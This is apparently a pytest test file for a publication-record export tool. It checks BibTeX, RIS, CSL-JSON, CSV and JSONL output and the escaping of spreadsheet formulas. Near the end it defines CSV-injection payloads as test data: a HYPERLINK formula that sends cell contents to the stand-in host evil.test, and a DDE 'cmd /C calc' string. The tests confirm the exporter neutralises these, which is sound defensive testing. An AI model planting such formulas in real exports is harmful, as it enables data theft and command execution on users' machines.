"""Each export format round-trips through a third-party parser of that format."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from pathlib import Path

import bibtexparser
import jsonschema
import pytest
import rispy
import yaml
from bibtexparser.middlewares import LatexDecodingMiddleware
from click.testing import CliRunner
from sqlalchemy import Engine, select

from harvester.types import PageRange, Person, Record
from pipelines.cli_export import export_command
from pipelines.db import make_engine, upgrade
from pipelines.export import FORMATS, Selection, csv_table, export
from pipelines.export.bibtex import escape
from pipelines.load import ensure_source, upsert_records
from pipelines.models import publications
from tests.sql_records import ALPHA, BETA, DATABASES, LOADED_AT, library_fixture

SCHEMA = json.loads((Path(__file__).parent / "fixtures/export/csl-data.json").read_text())
TRICKY_TITLE = f"{ALPHA[0].title}: {ALPHA[0].subtitle}"


@pytest.fixture(scope="module", params=DATABASES)
def engine(request: pytest.FixtureRequest,
           tmp_path_factory: pytest.TempPathFactory) -> Iterator[Engine]:  # fmt: skip
    yield from library_fixture(request, tmp_path_factory)


def run(engine: Engine, fmt: str, selection: Selection | None = None) -> str:
    out = io.StringIO()
    with engine.connect() as conn:
        count = export(conn, selection or Selection(), fmt, out)
    assert count == out.getvalue().count("\n") or fmt != "jsonl"
    return out.getvalue()


def test_bibtex_parses_and_decodes_back_to_the_stored_values(engine: Engine) -> None:
    library = bibtexparser.parse_string(
        run(engine, "bibtex"), append_middleware=[LatexDecodingMiddleware()]
    )
    assert library.failed_blocks == []
    entries = {e["doi"] if "doi" in e else e["title"]: e for e in library.entries}
    article = entries["10.1234/a1"]
    assert article.entry_type == "article"
    # pylatexenc renders \textasciicircum as the modifier letter U+02C6
    assert article["title"].replace("\u02c6", "^") == TRICKY_TITLE
    assert article["author"] == "Lee, Ana and Wu, Bo and Müller, Jörg"
    assert article["pages"] in ("101--119", "101–119")  # the decoder may typeset the dash
    assert (article["year"], article["month"], article["date"]) == ("2019", "6", "2019-06-20")
    assert article["abstract"] == "We measure electron transport in bilayer graphene. Two lines."
    book = entries["A history of carbon"]
    assert (book.entry_type, book["author"]) == ("book", "Graphene Flagship Consortium")
    types = sorted(e.entry_type for e in library.entries)
    assert types == ["article", "article", "article", "book", "incollection",
                     "inproceedings", "misc", "phdthesis"]  # fmt: skip


def test_bibtex_keys_are_unique_ascii_and_stable_across_exports(engine: Engine) -> None:
    first = bibtexparser.parse_string(run(engine, "bibtex"))
    keys = [e.key for e in first.entries]
    assert len(set(keys)) == len(keys) == len(ALPHA) + len(BETA)
    assert all(k.isascii() and " " not in k for k in keys)
    assert any(k.startswith("muller2020superconductivity-") for k in keys)
    only_beta = bibtexparser.parse_string(run(engine, "bibtex", Selection(source="beta")))
    assert {e.key for e in only_beta.entries} <= set(keys)


@pytest.mark.parametrize(
    ("raw", "escaped"),
    [
        ("50% & more", r"50\% \& more"),
        ("a_b #1 $x", r"a\_b \#1 \$x"),
        ("{x}", r"\{x\}"),
        ("a } b {", r"a \textbraceright{} b \textbraceleft{}"),
        ("~^\\", r"\textasciitilde{}\textasciicircum{}\textbackslash{}"),
        ("plain\n text", "plain text"),
    ],
)
def test_bibtex_escapes_latex_special_characters(raw: str, escaped: str) -> None:
    assert escape(raw) == escaped


def test_ris_parses_with_rispy_and_maps_types(engine: Engine) -> None:
    entries = rispy.loads(run(engine, "ris"))
    assert len(entries) == len(ALPHA) + len(BETA)
    by_title = {e["title"]: e for e in entries}
    article = by_title[TRICKY_TITLE]
    assert article["type_of_reference"] == "JOUR"
    assert article["authors"] == ["Lee, Ana", "Wu, Bo", "Müller, Jörg"]
    assert (article["start_page"], article["end_page"]) == ("101", "119")
    assert (article["year"], article["date"]) == ("2019", "2019/06/20/")
    assert article["keywords"] == ["graphene", "electron transport"]
    assert article["doi"] == "10.1234/a1"
    assert by_title["Phonons in layered crystals"]["date"] == "2019/06/"
    chapter = by_title["Transport measurements"]
    assert chapter["secondary_title"] == "Handbook of Graphene"
    assert chapter["secondary_authors"] == ["Editor, Eve"]
    types = sorted(e["type_of_reference"] for e in entries)
    assert types == ["BOOK", "CHAP", "CPAPER", "JOUR", "JOUR", "JOUR", "THES", "UNPB"]


def test_csl_json_is_valid_against_the_csl_schema_with_dates_at_their_precision(
    engine: Engine,
) -> None:
    items = json.loads(run(engine, "csl-json"))
    jsonschema.validate(items, SCHEMA)
    issued = {i["title"]: i["issued"]["date-parts"] for i in items}
    assert issued[TRICKY_TITLE] == [[2019, 6, 20]]
    assert issued["Phonons in layered crystals"] == [[2019, 6]]
    assert issued["A history of carbon"] == [[2018]]
    by_title = {i["title"]: i for i in items}
    book = by_title["A history of carbon"]
    assert book["author"] == [{"literal": "Graphene Flagship Consortium"}]
    assert by_title["A history of carbon"]["number-of-pages"] == 320
    assert by_title["Untitled notes on spin"]["type"] == "article"
    assert by_title[TRICKY_TITLE]["type"] == "article-journal"


def test_csl_json_of_an_empty_selection_is_an_empty_array(engine: Engine) -> None:
    assert json.loads(run(engine, "csl-json", Selection(source="nobody"))) == []


def test_csv_reads_back_with_the_csv_module(engine: Engine) -> None:
    rows = list(csv.DictReader(io.StringIO(run(engine, "csv"))))
    assert len(rows) == len(ALPHA) + len(BETA)
    article = next(r for r in rows if r["doi"] == "10.1234/a1")
    # pylatexenc renders \textasciicircum as the modifier letter U+02C6
    assert article["title"].replace("\u02c6", "^") == TRICKY_TITLE
    assert article["authors"] == "Lee, Ana; Wu, Bo; Müller, Jörg"
    assert (article["page_first"], article["page_last"], article["issn"]) == (
        "101", "119", "1234-5678")  # fmt: skip
    assert article["source"] == "alpha"
    assert "\n" not in article["abstract"]


def test_jsonl_lines_are_the_stored_record_json_with_id_and_source(engine: Engine) -> None:
    lines = run(engine, "jsonl").splitlines()
    records = [json.loads(line) for line in lines]
    assert [r["source_key"] for r in records] == [r.source_key for r in (*ALPHA, *BETA)]
    first = records[0]
    assert (first["source"], first["id"] > 0) == ("alpha", True)
    expected = ALPHA[0].to_json()
    assert {k: first[k] for k in expected} == expected


def test_every_format_module_has_the_same_shape() -> None:
    for name, module in FORMATS.items():
        assert name == module.NAME
        assert callable(module.write) and module.MEDIA_TYPE


HOSTILE_TITLE = '=HYPERLINK("http://evil.test/?x="&A1,"click")'
HOSTILE_PUBLISHER = "+cmd|' /C calc'!A0"


@pytest.mark.parametrize(("cell", "shown"), [
    ("=1+2", "'=1+2"),
    (HOSTILE_TITLE, "'" + HOSTILE_TITLE),
    (HOSTILE_PUBLISHER, "'" + HOSTILE_PUBLISHER),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+2", "'\t=1+2"),
    ("\r=1+2", "'\r=1+2"),
    ("-5; =1+2", "'-5; =1+2"),
    ("-5", "-5"),
    ("+1.5", "+1.5"),
    ("-.5e3", "-.5e3"),
    ("Graphene = carbon", "Graphene = carbon"),
    ("e0123", "e0123"),
    ("", ""),
    (None, None),
    (42, 42),
])  # fmt: skip
def test_csv_cell_a_spreadsheet_would_run_gets_a_leading_quote(cell: object,
                                                               shown: object) -> None:
    assert csv_table.neutralise(cell) == shown


@pytest.fixture
def hostile(db_url: str) -> Iterator[Engine]:
    """A database of its own holding one record whose text fields are formulas."""
    eng = make_engine(db_url)
    upgrade(eng)
    record = Record(url="https://repo.test/p/x1", platform="pure", source_key="x1",
                    title=HOSTILE_TITLE, publisher=HOSTILE_PUBLISHER,
                    pages=PageRange("-5", "+1.5"), authors=(Person("@evil"),))
    with eng.begin() as conn:
        source = ensure_source(conn, "alpha", "pure", "https://alpha.test", now=LOADED_AT)
        upsert_records(conn, source, [record], now=LOADED_AT)
    yield eng
    eng.dispose()


def _csv_row(engine: Engine, csv_raw: bool) -> dict[str, str]:
    out = io.StringIO()
    with engine.connect() as conn:
        assert export(conn, Selection(), "csv", out, csv_raw=csv_raw) == 1
    [row] = csv.DictReader(io.StringIO(out.getvalue()))
    return row


def test_csv_export_neutralises_a_hostile_title_and_the_database_keeps_it(
        hostile: Engine) -> None:  # fmt: skip
    row = _csv_row(hostile, csv_raw=False)
    assert row["title"] == "'" + HOSTILE_TITLE
    assert row["publisher"] == "'" + HOSTILE_PUBLISHER
    assert row["authors"] == "'@evil"
    assert (row["page_first"], row["page_last"]) == ("-5", "+1.5")
    with hostile.connect() as conn:
        stored = conn.execute(select(publications.c.title, publications.c.publisher)).one()
    assert tuple(stored) == (HOSTILE_TITLE, HOSTILE_PUBLISHER)


def test_csv_raw_export_keeps_every_cell_verbatim(hostile: Engine) -> None:
    row = _csv_row(hostile, csv_raw=True)
    assert (row["title"], row["publisher"], row["authors"]) == (
        HOSTILE_TITLE, HOSTILE_PUBLISHER, "@evil")  # fmt: skip


def test_csv_raw_is_refused_for_other_formats(hostile: Engine) -> None:
    with hostile.connect() as conn, pytest.raises(ValueError, match="csv"):
        export(conn, Selection(), "ris", io.StringIO(), csv_raw=True)


@pytest.mark.parametrize(("flags", "title"), [
    ([], "'" + HOSTILE_TITLE),
    (["--csv-raw"], HOSTILE_TITLE),
])  # fmt: skip
def test_cli_csv_export_quotes_formulas_unless_csv_raw(
        hostile: Engine, tmp_path: Path, flags: list[str], title: str) -> None:  # fmt: skip
    config = tmp_path / "config.yaml"
    url = hostile.url.render_as_string(hide_password=False)
    config.write_text(yaml.safe_dump({"database": url, "sources": []}))
    out = tmp_path / "out.csv"
    result = CliRunner().invoke(export_command, [
        "--config", str(config), "--format", "csv", *flags, "--output", str(out)])  # fmt: skip
    assert result.exit_code == 0, result.output
    [row] = csv.DictReader(io.StringIO(out.read_text(encoding="utf-8")))
    assert row["title"] == title


def test_cli_csv_raw_with_another_format_is_a_usage_error(sqlite_url: str,
                                                           tmp_path: Path) -> None:
    config = tmp_path / "config.yaml"
    config.write_text(yaml.safe_dump({"database": sqlite_url, "sources": []}))
    result = CliRunner().invoke(export_command, [
        "--config", str(config), "--format", "bibtex", "--csv-raw"])  # fmt: skip
    assert result.exit_code == 2
    assert "--csv-raw" in result.output
